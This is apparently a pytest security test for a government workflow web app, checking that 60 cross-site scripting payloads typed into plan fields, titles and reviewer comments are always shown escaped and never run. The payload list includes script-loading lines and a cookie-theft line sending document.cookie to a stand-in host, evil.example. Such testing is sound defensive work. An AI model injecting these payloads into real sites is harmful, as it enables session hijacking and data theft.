"""HTML typed into a plan, a title or a comment is shown as text on every page that shows it,
never run (ASVS 5.0 3.2.2): 60 payloads in every text field of a plan, its title and a
reviewer's comment, then the pages read as a browser would parse them."""

from __future__ import annotations

import copy
from html.parser import HTMLParser
from typing import Any

from tests.conftest import PLAN_2023, ApiClient
from tests.web.conftest import Browser

POLICE, FINANCE = "thanhhoa.congan", "thanhhoa.taichinh"

_TAGS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src='x' onerror='alert(1)'>",
]
_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    '"/><svg onload=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "{{7*7}}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "&#60;script&#62;alert(1)&#60;/script&#62;<i>",
    "<<script>alert(1)//<</script>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "Ngày hội <b>toàn dân</b> & “bảo vệ” <i>ANTQ</i>",
    "<p>Kế hoạch</p><script>document.location='//evil.example/?c='+document.cookie</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<img src=x onerror=alert`1`>",
    "<svg/onload=alert(1)>",
]
PAYLOADS = _TAGS + _BREAKOUTS


class _Parsed(HTMLParser):
    """What a browser would run: scripts inline or from elsewhere, event handlers, javascript:
    addresses, elements that load or redirect."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/assets/"):
            self.found.append(f"<script {values}>")
        if tag in {"iframe", "object", "embed", "base", "style"} or "http-equiv" in values:
            self.found.append(f"<{tag} {values}>")
        for name in ("href", "src", "action"):  # the app's own addresses only
            if (values.get(name) or "/").startswith(("//", "http:", "https:")):
                self.found.append(f"<{tag} {name}={values[name]}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}=…>")
            if value and value.strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value}>")


def _dangers(html: str) -> list[str]:
    parser = _Parsed()
    parser.feed(html)
    return parser.found


def _plan() -> dict[str, Any]:
    plan = copy.deepcopy(PLAN_2023)
    plan["title"] = PAYLOADS[0]
    plan["sections"] = [{"heading": p, "body": p} for p in PAYLOADS]
    line = plan["budget_lines"][0]
    plan["budget_lines"] = [{**line, "item": p} for p in PAYLOADS]
    nomination = plan["nominations"][0]
    plan["nominations"] = [{**nomination, "nominee": p, "reason": p} for p in PAYLOADS]
    deadline = plan["deadlines"][0]
    plan["deadlines"] = [deadline] + [{**deadline, "what": p} for p in PAYLOADS]
    plan["pilot_sites"] = [{**site, "name": PAYLOADS[1]} for site in plan["pilot_sites"]]
    return plan


def test_no_payload_is_ever_rendered_as_html(api: ApiClient, browser: Browser) -> None:
    assert len(PAYLOADS) >= 50
    process_ids = [
        int(
            api.post(
                "/api/v1/processes", POLICE, json={"definition": "plan_chain", "title": p}
            ).json["id"]
        )
        for p in PAYLOADS
    ]
    process_id = process_ids[0]
    draft = api.get(f"/api/v1/tasks?process={process_id}", POLICE).json[0]
    answer = api.complete(POLICE, draft["id"], "submit", data=_plan())
    assert answer.status_code == 200, answer.json
    appraisal = api.only_task(FINANCE)
    comment = " ".join(PAYLOADS)[:5000]
    assert api.complete(FINANCE, appraisal["id"], "return", comment=comment).status_code == 200
    redraft = api.get(f"/api/v1/tasks?process={process_id}", POLICE).json[0]
    browser.login(POLICE)
    pages = ["/inbox", f"/tasks/{redraft['id']}", f"/processes/{process_id}", "/notifications"]
    pages += [f"/inbox?q={p}" for p in PAYLOADS[:5]]
    for path in pages:
        answer = browser.get(path)
        assert answer.status_code == 200, path
        html = answer.get_data(as_text=True)
        assert _dangers(html) == [], path
        shown = [p for p in PAYLOADS if p in html and any(c in p for c in "<>\"'")]
        assert shown == [], path  # every one of them appears only escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in browser.get(f"/tasks/{redraft['id']}").text
    export = browser.get(f"/processes/{process_id}/audit-export")
    assert export.mimetype == "application/x-ndjson"
    assert export.headers["Content-Disposition"].startswith("attachment")
    assert export.headers["X-Content-Type-Options"] == "nosniff"
